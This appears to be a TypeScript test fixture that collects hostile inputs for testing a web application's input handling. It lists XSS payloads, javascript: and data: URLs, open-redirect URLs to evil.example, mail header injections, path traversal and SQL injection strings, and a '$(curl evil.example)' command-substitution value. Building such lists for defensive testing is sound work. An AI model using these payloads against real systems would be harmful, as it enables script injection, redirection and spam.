/** Name of the function that a payload calls if it runs. */
export const TRAP = '__pwned';

const SCRIPT = '<script>__pwned(1)</script>';
const IMAGE = '<img src=x onerror=__pwned(1)>';

/** Elements that would call the trap or reach another site, each in a different way. */
const ELEMENTS = [
  SCRIPT,
  IMAGE,
  '<ScRiPt\t>__pwned(1)</sCrIpT\n>',
  '<script type=module>import "https://evil.example/x.mjs"</script>',
  '<scr<script>ipt>__pwned(1)</scr</script>ipt>',
  '<img/src="x"``onerror=\'__pwned(1)\'>',
  '<img srcset="https://evil.example/pixel.gif 1x">',
  '<body onpageshow=__pwned(1)>',
  '<iframe src="javascript:parent.__pwned(1)"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned(1)</script>"></iframe>',
  '<object data="javascript:__pwned(1)"></object>',
  '<embed src="javascript:__pwned(1)">',
  '<input autofocus onfocus=__pwned(1)>',
  '<details open ontoggle=__pwned(1)>',
  '<video poster=https://evil.example/poster.png><source onerror=__pwned(1)></video>',
  '<div style="animation-name:x" onanimationstart=__pwned(1)>',
  '<p onmouseover=__pwned(1) style="position:fixed;inset:0">',
  '<a href="javascript:__pwned(1)">lire</a>',
  '<form action="https://evil.example/"><button>Envoyer</button></form>',
  '<button formaction="javascript:__pwned(1)">Envoyer</button>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<template><script>__pwned(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=__pwned(1)>">',
  '<x-element onclick=__pwned(1) tabindex=1 autofocus onfocus=__pwned(1)>',
  '<dialog open>Connectez-vous</dialog>',
  '<svg/onload=__pwned(1)//',
  '<svg><script href=https://evil.example/x.js /></svg>',
  '<svg><animate onbegin=__pwned(1) attributeName=x dur=1s>',
  '<svg><a href="javascript:__pwned(1)"><text y=20>lire</text></a></svg>',
  '<svg><use href="https://evil.example/x.svg#x"/></svg>',
  '<svg><foreignObject><iframe onload=__pwned(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__pwned(1)>',
  '<math><annotation-xml encoding="text/html"><script>__pwned(1)</script></annotation-xml></math>',
  '<?xml version="1.0"?><!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><x/>',
];

/** Texts that close the context around them: attributes, elements with raw text, comments. */
const CLOSERS = [
  '">',
  "'>",
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '</svg>',
  '-->',
  ']]>',
  '<![CDATA[',
];

/** Texts that break out of attributes, strings, objects, templates and style sheets. */
const BREAKOUTS = [
  '" onfocus="__pwned(1)" autofocus="',
  "' onmouseover='__pwned(1)",
  '` onerror=`__pwned(1)',
  '";__pwned(1)//',
  "';__pwned(1)//",
  '\\";__pwned(1)//',
  '${__pwned(1)}',
  '"},"x":__pwned(1),"y":{"',
  '{"__proto__":{"polluted":true}}',
  '\u2028__pwned(1)\u2029',
  '{{constructor.constructor("__pwned(1)")()}}',
  '{{{__pwned(1)}}}',
  '{{#description}}{{to_email}}{{/description}}',
  '<%= __pwned(1) %>',
  '*{color:red}@import "https://evil.example/x.css";',
  'x;background:url(https://evil.example/x.png)',
  '}body{display:none}',
];

/** Spellings of script URLs, with characters that URL parsers drop or trim. */
const SCHEMES = [
  ...['', ' ', '\t', '\u0001', '\u00A0', '\u3000', '\uFEFF'].map((lead) => `${lead}javascript:`),
  ...['\t', '\n', '\r\n', '\0'].map((inside) => `java${inside}script:`),
  ...['JaVaScRiPt:', 'javascript\t:', 'javascript&colon;', 'javascript%3A', '%6A%61vascript:'],
  ...['&#106;avascript:', '&#x6A&#x61vascript:', 'view-source:javascript:', 'livescript:'],
  ...['javascript://exemple.fr/%0A', 'javascript:/*https://exemple.fr*/', 'vbscript:'],
];

/** URLs that would run or show their content when opened. No field may accept them. */
export const SCRIPT_ADDRESSES: readonly string[] = [
  ...SCHEMES.map((scheme) => `${scheme}__pwned(1)`),
  'javascript:void(0)//https://exemple.fr/',
  'data:text/html,<script>__pwned(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDEpPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg onload=__pwned(1)>',
  ' DATA:text/html,x',
  'blob:https://evil.example/0f1e2d3c',
  'file:///etc/passwd',
  'filesystem:https://evil.example/temporary/x.html',
  'about:blank',
  'ftp://evil.example/x',
  'intent://evil.example/#Intent;scheme=https;end',
  'mailto:tous@evil.example?bcc=x@evil.example',
];

/** URLs that lead, or seem to lead, to another site. */
export const REDIRECTS: readonly string[] = [
  'https://evil.example/dashboard-client',
  'https:evil.example/dashboard-client',
  'https:/evil.example/dashboard-client',
  'https:\\\\evil.example/dashboard-client',
  '//evil.example/dashboard-client',
  '///evil.example/dashboard-client',
  '////evil.example/dashboard-client',
  '/\\evil.example/dashboard-client',
  '\\/evil.example/dashboard-client',
  '\\\\evil.example/dashboard-client',
  '/\t/evil.example/dashboard-client',
  '/\n/evil.example/dashboard-client',
  '/\r\\evil.example/dashboard-client',
  '\t//evil.example/dashboard-client',
  ' //evil.example/dashboard-client',
  '/%2F/evil.example/dashboard-client',
  '/%5Cevil.example/dashboard-client',
  '/dashboard-client/..//evil.example',
  '/dashboard-client@evil.example',
  '//localhost@evil.example/dashboard-client',
  '//evil.example:443/dashboard-client',
  '//evil。example/dashboard-client',
  '//еvil.example/dashboard-client',
  '//[::ffff:192.0.2.1]/dashboard-client',
  '/.evil.example/dashboard-client',
  '/dashboard-client.evil.example',
  '/login?from=//evil.example',
  '/../../evil.example/dashboard-client',
];

const LONG = 10_000;

/** Texts that would add a mail header if line breaks were kept. */
export const HEADER_INJECTIONS: readonly string[] = [
  'Camille\r\nBcc: intrus@evil.example',
  'Camille\nBcc: intrus@evil.example',
  'Camille\rBcc: intrus@evil.example',
  'Camille\r\n Bcc: intrus@evil.example',
  'Camille\r\nTo: intrus@evil.example',
  'Camille\r\nSubject: Virement urgent',
  'Camille\r\n\r\n<script>__pwned(1)</script>',
  'Camille\u2028Bcc: intrus@evil.example',
  'Camille\u0085Bcc: intrus@evil.example',
  'Camille\0\r\nBcc: intrus@evil.example',
  'Camille%0D%0ABcc:%20intrus@evil.example',
  '"Camille" <intrus@evil.example>, x',
  '=?utf-8?B?Qmx1ZQ0KQmNjOiBpbnRydXNAZXZpbC5leGFtcGxl?=',
  'Camille\r\nContent-Type: text/html; boundary=x\r\n\r\n--x',
];

/** Property names of every object, paths, and code of other languages. */
const NAMES = [
  ...['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'then'],
  ...['null', 'undefined', 'NaN', '-0', '1e309'],
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '..%2F..%2Fetc%2Fpasswd',
  '%3Cscript%3E__pwned(1)%3C/script%3E',
  '%253Cscript%253E__pwned(1)%253C/script%253E',
  "' OR '1'='1",
  '$(curl evil.example)',
  '=HYPERLINK("https://evil.example/","Cliquez")',
  '.*+?^${}()|[\\]',
];

/** Characters that reorder, hide, combine or terminate a text. */
const CHARACTERS = [
  '\u202Eengam eriaf\u202C',
  '\u2066\u2067isolé\u2069\u2069',
  'invi\u200Bsi\u200Cble\u200D\u2060\uFEFF',
  '\u200B\u200B\u200B',
  'fin\0suite',
  'sonnerie\u0007\u0008\u001B[31m',
  'moitié\uD83D',
  '\uDE00moitié',
  '\uD800\uDBFF',
  'Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u030A\u030B\u030C'.repeat(40),
  '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(50),
  '﷽'.repeat(100),
  'مهمة אבג 山田 ไทย Ω',
  '\uFFFE\uFFFF',
];

const LONG_TEXTS = [
  'W'.repeat(LONG),
  'mot '.repeat(LONG / 4),
  'l\n'.repeat(LONG / 4),
  '<'.repeat(LONG / 4),
  '<b>'.repeat(LONG / 8),
  `${'['.repeat(LONG / 4)}${']'.repeat(LONG / 4)}`,
  `https://exemple.fr/${'a'.repeat(LONG / 4)}`,
];

/** Hostile texts to type, store or put in a link: more than the 200 rows of one page of a list. */
export const PAYLOADS: readonly string[] = [
  ...ELEMENTS,
  ...CLOSERS.flatMap((closer) =>
    [SCRIPT, IMAGE, '<svg onload=__pwned(1)>'].map((tag) => closer + tag),
  ),
  ...BREAKOUTS,
  ...SCRIPT_ADDRESSES,
  ...REDIRECTS,
  ...HEADER_INJECTIONS,
  ...NAMES,
  ...CHARACTERS,
  ...LONG_TEXTS,
];
